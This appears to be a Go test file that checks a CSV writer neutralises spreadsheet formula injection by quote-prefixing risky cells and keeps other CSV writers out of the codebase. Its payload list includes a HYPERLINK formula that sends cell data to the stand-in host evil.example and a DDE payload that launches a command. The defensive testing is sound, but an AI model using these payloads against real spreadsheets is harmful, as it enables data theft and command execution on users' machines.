package tabular

import (
	"bytes"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// payloads are the OWASP CSV-injection cases: each must reach the file
// with a quote in front and come back unchanged when read.
var payloads = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `@SUM(1)`, `-2+3`, "\t=1", "\r=1"}

func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	var buf bytes.Buffer
	err := WriteCSV(&buf, []string{"name", "figure"}, func(write func([]string) error) error {
		for _, p := range payloads {
			if err := write([]string{p, "-2"}); err != nil {
				return err
			}
		}
		return write([]string{"plain", "-0.5"})
	})
	if err != nil {
		t.Fatal(err)
	}
	tab, err := ReadDelimited(buf.String(), ',')
	if err != nil {
		t.Fatal(err)
	}
	// What a spreadsheet sees: the cells as the file holds them.
	text := buf.String()
	// encoding/csv drops a lone carriage return inside a cell when it
	// writes CRLF line ends, so "\r=1" is in the file as "'=1".
	noCR := func(s string) string { return strings.ReplaceAll(s, "\r", "") }
	for _, p := range payloads {
		p = noCR(p)
		if !strings.Contains(text, "'"+p) && !strings.Contains(text, `"'`+strings.ReplaceAll(p, `"`, `""`)) {
			t.Errorf("%q is not neutralised in:\n%s", p, text)
		}
	}
	for _, line := range strings.Split(strings.TrimPrefix(text, "\uFEFF"), "\r\n") {
		cell := strings.TrimPrefix(line, `"`)
		if cell != "" && strings.ContainsRune(formulaStart, rune(cell[0])) {
			t.Errorf("a line starts with a formula: %q", line)
		}
	}
	if !strings.Contains(text, ",-2\r\n") || !strings.Contains(text, ",-0.5\r\n") {
		t.Errorf("negative numbers were changed:\n%s", text)
	}
	// Read back, the cells are what was written.
	if len(tab.Rows) != len(payloads)+1 {
		t.Fatalf("%d rows", len(tab.Rows))
	}
	for i, p := range payloads {
		if got := tab.Rows[i].Cells[0]; got != noCR(p) {
			t.Errorf("row %d read back as %q, want %q", i, got, p)
		}
	}
}

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "Kaunas": "Kaunas", "-2": "-2", "-0.5": "-0.5", "12": "12",
		"-2+3": "'-2+3", "+48 555 123": "'+48 555 123", "-": "'-", "@x": "'@x", "=1": "'=1", "-1e3": "'-1e3",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestEveryCSVWriterIsSafe keeps every CSV the program writes going
// through CSVWriter: no Go file but this one calls csv.NewWriter.
func TestEveryCSVWriterIsSafe(t *testing.T) {
	root := filepath.Join("..", "..")
	call := regexp.MustCompile(`\bcsv\.NewWriter\(`)
	err := filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "node_modules" || d.Name() == ".git") {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(p, ".go") || strings.HasSuffix(p, "_test.go") || filepath.Base(p) == "csvsafe.go" {
			return nil
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		if call.Match(b) {
			t.Errorf("%s calls csv.NewWriter: use tabular.NewCSVWriter so that no cell is read as a formula", p)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
